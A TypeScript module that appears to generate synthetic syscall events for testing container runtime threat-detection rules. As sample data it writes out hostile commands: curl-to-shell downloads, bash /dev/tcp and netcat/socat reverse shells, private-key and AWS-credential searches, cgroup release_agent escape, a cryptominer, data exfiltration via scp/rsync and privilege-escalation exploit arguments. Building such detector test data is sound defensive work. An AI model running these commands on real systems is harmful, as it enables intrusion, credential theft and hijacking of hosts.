import {
  bash,
  CONTAINERD_SHIM,
  interactive,
  interactiveParents,
  mainProcess,
  outbound,
  proc,
  PTS_TTY,
  RUNC,
  sh,
  spawned,
  SYSTEMD,
  type Scenario,
} from './syscall-activity';

const ALL_CAPABILITIES =
  'CAP_CHOWN CAP_DAC_OVERRIDE CAP_DAC_READ_SEARCH CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID CAP_SETUID ' +
  'CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_ADMIN CAP_NET_RAW CAP_SYS_MODULE CAP_SYS_RAWIO CAP_SYS_CHROOT ' +
  'CAP_SYS_PTRACE CAP_SYS_ADMIN CAP_SYS_BOOT CAP_SYS_RESOURCE CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP CAP_BPF';

/** Scenarios about programs being run: shells, tools, exploits and miners. */
export const PROCESS_SCENARIOS: Scenario[] = [
  {
    id: 'terminal-shell',
    pattern: /terminal shell/i,
    placement: 'container',
    build: (context) =>
      interactive(context, 'execve', bash(), {
        parents: [RUNC, CONTAINERD_SHIM, SYSTEMD],
        sessionLeader: 'bash',
      }),
  },
  {
    id: 'shell-from-application',
    pattern: /shell untrusted|web server spawned shell|db program spawned/i,
    build: (context) =>
      spawned(
        context,
        'execve',
        sh(
          context.random.pick([
            '-c id',
            '-c "curl -fsSL http://203.0.113.240/x | sh"',
            '-c uname -a',
          ]),
        ),
      ),
  },
  {
    id: 'web-server-child',
    pattern: /web server spawned suspicious/i,
    build: (context) =>
      spawned(
        context,
        'execve',
        proc('curl', '/usr/bin/curl', '-s http://203.0.113.241/stage2 -o /tmp/.s'),
      ),
  },
  {
    id: 'reverse-shell',
    pattern: /reverse shell|redirect stdout/i,
    build: (context) => {
      const attacker = `203.0.113.${context.random.integer(200, 254)}`;
      const port = context.random.pick([4444, 9001, 1337]);
      return spawned(context, 'dup2', bash(`-c "bash -i >& /dev/tcp/${attacker}/${port} 0>&1"`), {
        connection: outbound(context, { ip: attacker, port }),
        eventArgs: 'res=0 fd=3 newfd=1',
      });
    },
  },
  {
    id: 'system-user-interactive',
    pattern: /system user/i,
    build: (context) =>
      interactive(context, 'execve', bash('-i'), {
        user: {
          name: 'www-data',
          uid: 33,
          loginuid: -1,
          loginname: '<NA>',
          group: { name: 'www-data', gid: 33 },
        },
      }),
  },
  {
    id: 'netcat',
    pattern: /netcat|socat/i,
    build: (context) =>
      interactive(
        context,
        'execve',
        context.random.chance(0.5)
          ? proc('nc', '/usr/bin/nc.openbsd', '-lvnp 4444 -e /bin/sh', 'nc')
          : proc('socat', '/usr/bin/socat', 'TCP4:203.0.113.244:443 EXEC:/bin/bash,pty,stderr'),
      ),
  },
  {
    id: 'search-secrets',
    pattern: /private keys|passwords/i,
    build: (context) =>
      interactive(
        context,
        'execve',
        proc('grep', '/usr/bin/grep', '-r "BEGIN RSA PRIVATE" / --include=*.pem'),
      ),
  },
  {
    id: 'find-aws-credentials',
    pattern: /aws credentials/i,
    build: (context) =>
      interactive(
        context,
        'execve',
        proc('find', '/usr/bin/find', '/ -name credentials -path *.aws*'),
      ),
  },
  {
    id: 'kernel-module',
    pattern: /kernel module/i,
    build: (context) =>
      interactive(
        context,
        'init_module',
        proc('insmod', '/usr/sbin/insmod', '/tmp/.k/nfsd_helper.ko', 'insmod'),
        {
          result: context.pod ? 'EPERM' : 'SUCCESS',
        },
      ),
  },
  {
    id: 'debugfs',
    pattern: /debugfs/i,
    placement: 'container',
    build: (context) =>
      interactive(context, 'execve', proc('debugfs', '/usr/sbin/debugfs', '-w /dev/nvme0n1p1')),
  },
  {
    id: 'release-agent',
    pattern: /release_agent/i,
    placement: 'container',
    build: (context) =>
      interactive(context, 'openat', sh('-c "echo /tmp/x.sh > /tmp/cgrp/release_agent"'), {
        file: '/tmp/cgrp/release_agent',
        flags: 'O_WRONLY|O_CREAT|O_TRUNC',
        capabilities: ALL_CAPABILITIES,
      }),
  },
  {
    id: 'ptrace-attach',
    pattern: /ptrace attached/i,
    build: (context) =>
      interactive(context, 'ptrace', proc('gdb', '/usr/bin/gdb', '-p 1 -batch -ex "info proc"')),
  },
  {
    id: 'ptrace-traceme',
    pattern: /anti-debug/i,
    build: (context) =>
      spawned(context, 'ptrace', proc('.kworker', '/tmp/.kworker', '--daemon', './.kworker'), {
        parents: [sh('-c ./.kworker --daemon'), ...interactiveParents(context).slice(1)],
      }),
  },
  {
    id: 'fileless',
    pattern: /memfd|fileless/i,
    build: (context) =>
      spawned(context, 'execve', proc('3', 'memfd:payload (deleted)', '', '/proc/self/fd/3'), {
        parents: [
          proc('python3', '/usr/bin/python3.11', '-c "import os;...memfd_create..."'),
          ...interactiveParents(context),
        ],
        flags: 'EXE_WRITABLE|EXE_FROM_MEMFD',
        sessionLeader: 'bash',
      }),
  },
  {
    id: 'drop-and-execute',
    pattern: /drop and execute|not part of base image/i,
    placement: 'container',
    build: (context) =>
      interactive(
        context,
        'execve',
        proc('kdevtmpfsi', '/tmp/kdevtmpfsi', '-o 203.0.113.250:3333', './kdevtmpfsi'),
        {
          flags: 'EXE_WRITABLE|EXE_UPPER_LAYER',
          cwd: '/tmp',
          sessionLeader: 'bash',
          binaryAgeSeconds: context.random.integer(3, 90),
        },
      ),
  },
  {
    id: 'change-namespace',
    pattern: /thread namespace|setns/i,
    build: (context) =>
      interactive(context, 'setns', proc('nsenter', '/usr/bin/nsenter', '-t 1 -m -u -i -n -- sh')),
  },
  {
    id: 'unshare',
    pattern: /unshare/i,
    build: (context) =>
      interactive(context, 'unshare', proc('unshare', '/usr/bin/unshare', '-Urm sh')),
  },
  {
    id: 'container-launch',
    pattern:
      /launch (privileged|excessively capable|sensitive mount|disallowed) container|run as root/i,
    placement: 'container',
    build: (context) => ({
      ...spawned(context, 'execve', mainProcess(context), {
        parents: [RUNC, CONTAINERD_SHIM, SYSTEMD],
      }),
      capabilities: ALL_CAPABILITIES,
    }),
  },
  {
    id: 'package-manager',
    pattern: /package management|package repository/i,
    build: (context) =>
      interactive(
        context,
        'execve',
        context.random.pick([
          proc('apt-get', '/usr/bin/apt-get', 'install -y curl netcat-openbsd'),
          proc('apk', '/sbin/apk', 'add --no-cache nmap'),
          proc('pip', '/usr/local/bin/pip3', 'install requests', 'pip'),
        ]),
        {
          file: '/etc/apt/sources.list.d/tools.list',
          arguments: { newpath: '/etc/apt/sources.list.d/tools.list' },
        },
      ),
  },
  {
    id: 'npm-install-network-tool',
    pattern: /npm package/i,
    placement: 'container',
    build: (context) =>
      spawned(
        context,
        'execve',
        proc('curl', '/usr/bin/curl', '-sSL http://203.0.113.233/p.sh -o /tmp/p.sh'),
        {
          parents: [
            sh('-c node scripts/postinstall.js'),
            proc('npm', '/usr/local/bin/node', '/usr/local/bin/npm install', 'npm install'),
            bash(),
            RUNC,
            CONTAINERD_SHIM,
          ],
        },
      ),
  },
  {
    id: 'network-tool',
    pattern: /network tool|remote file copy/i,
    build: (context) =>
      interactive(
        context,
        'execve',
        context.random.pick([
          proc('nmap', '/usr/bin/nmap', '-sS -p 1-1024 198.51.100.0/24'),
          proc('wget', '/usr/bin/wget', '-q http://203.0.113.237/tools.tar.gz'),
          proc('scp', '/usr/bin/scp', '/tmp/dump.sql deploy@203.0.113.238:/srv/'),
          proc('rsync', '/usr/bin/rsync', '-az /var/lib/data/ 203.0.113.239::backup'),
        ]),
      ),
  },
  {
    id: 'user-management',
    pattern: /user mgmt|user management/i,
    placement: 'host',
    build: (context) =>
      interactive(
        context,
        'execve',
        proc('useradd', '/usr/sbin/useradd', '-m -s /bin/bash -G wheel support'),
      ),
  },
  {
    id: 'non-sudo-setuid',
    pattern: /setuid call|non sudo setuid/i,
    build: (context) =>
      interactive(context, 'setuid', proc('su', '/usr/bin/su', '- postgres'), {
        arguments: { uid: '999(postgres)' },
      }),
  },
  {
    id: 'set-setuid-bit',
    pattern: /setuid or setgid bit/i,
    build: (context) =>
      interactive(context, 'fchmodat', proc('chmod', '/usr/bin/chmod', 'u+s /tmp/.bash'), {
        arguments: {
          fd: '-100(AT_FDCWD)',
          filename: '/tmp/.bash',
          mode: 'S_ISUID|S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR',
        },
      }),
  },
  {
    id: 'mount',
    pattern: /mount launched/i,
    placement: 'container',
    build: (context) =>
      interactive(context, 'execve', proc('mount', '/usr/bin/mount', '/dev/nvme0n1p1 /mnt/host')),
  },
  {
    id: 'kubernetes-client',
    pattern: /kubernetes client/i,
    placement: 'container',
    build: (context) =>
      interactive(
        context,
        'execve',
        proc('kubectl', '/usr/local/bin/kubectl', 'get secrets -A -o yaml'),
      ),
  },
  {
    id: 'sudo-exploit',
    pattern: /sudo/i,
    build: (context) =>
      interactive(
        context,
        'execve',
        proc('sudoedit', '/usr/bin/sudo', "-s '\\' AAAAAAAAAAAAAAAAAAAA", 'sudoedit'),
      ),
  },
  {
    id: 'userfaultfd',
    pattern: /userfaultfd|page faults/i,
    build: (context) =>
      spawned(context, 'userfaultfd', proc('exploit', '/tmp/exploit', '', './exploit'), {
        parents: interactiveParents(context),
        flags: 'O_CLOEXEC|O_NONBLOCK',
      }),
  },
  {
    id: 'pkexec',
    pattern: /polkit|pkexec/i,
    build: (context) => interactive(context, 'execve', proc('pkexec', '/usr/bin/pkexec', '')),
  },
  {
    id: 'decode-payload',
    pattern: /decoding payload/i,
    placement: 'container',
    build: (context) =>
      interactive(context, 'execve', proc('base64', '/usr/bin/base64', '-d /tmp/.p')),
  },
  {
    id: 'reconnaissance',
    pattern: /reconnaissance/i,
    build: (context) =>
      interactive(
        context,
        'execve',
        context.random.pick([
          proc('whoami', '/usr/bin/whoami'),
          proc('id', '/usr/bin/id'),
          proc('uname', '/usr/bin/uname', '-a'),
        ]),
      ),
  },
  {
    id: 'miner',
    pattern: /cryptominer|stratum/i,
    build: (context) =>
      interactive(
        context,
        'execve',
        proc(
          'xmrig',
          '/tmp/.x/xmrig',
          '-o stratum+tcp://203.0.113.250:3333 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx --donate-level 1',
        ),
        { flags: 'EXE_WRITABLE|EXE_UPPER_LAYER', cwd: '/tmp/.x' },
      ),
  },
  {
    id: 'proxy-environment',
    pattern: /http proxy/i,
    build: (context) =>
      interactive(context, 'execve', proc('curl', '/usr/bin/curl', '-sS https://api.github.com/'), {
        env: 'HTTP_PROXY=http://203.0.113.226:3128 HOME=/root PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin',
      }),
  },
  {
    id: 'environment-privilege-escalation',
    pattern: /environment variables misuse|privilege escalation via environment/i,
    build: (context) =>
      interactive(context, 'execve', proc('su', '/usr/bin/su', '--help'), {
        env: 'GLIBC_TUNABLES=glibc.tune.hwcaps=AAAAAAAAAAAAAAAAAAAAAAAAAAAA PATH=/usr/bin:/bin',
        user: {
          name: 'app',
          uid: 10001,
          loginuid: -1,
          loginname: '<NA>',
          group: { name: 'app', gid: 10001 },
        },
      }),
  },
  {
    id: 'bpf-program',
    pattern: /bpf/i,
    build: (context) =>
      interactive(
        context,
        'bpf',
        proc('bpftool', '/usr/sbin/bpftool', 'prog load /tmp/probe.o /sys/fs/bpf/probe'),
        {
          arguments: { cmd: 'BPF_PROG_LOAD' },
        },
      ),
  },
  {
    id: 'proc-environ',
    pattern: /environment variable from \/proc/i,
    placement: 'container',
    build: (context) =>
      interactive(context, 'openat', proc('cat', '/usr/bin/cat', '/proc/1/environ'), {
        file: '/proc/1/environ',
        flags: 'O_RDONLY',
      }),
  },
  {
    id: 'kubectl-cp',
    pattern: /exfiltrating artifacts/i,
    placement: 'container',
    build: (context) =>
      spawned(context, 'openat', proc('tar', '/usr/bin/tar', 'cf - /app/config'), {
        parents: [RUNC, CONTAINERD_SHIM, SYSTEMD],
        user: {
          name: 'root',
          uid: 0,
          loginuid: -1,
          loginname: '<NA>',
          group: { name: 'root', gid: 0 },
        },
        file: '/app/config/application-prod.yaml',
        flags: 'O_RDONLY|O_NOCTTY|O_NONBLOCK|O_NOFOLLOW|O_CLOEXEC',
      }),
  },
  {
    id: 'interactive-tty',
    pattern: /attached terminal/i,
    placement: 'container',
    build: (context) => interactive(context, 'execve', bash(), { tty: PTS_TTY }),
  },
];
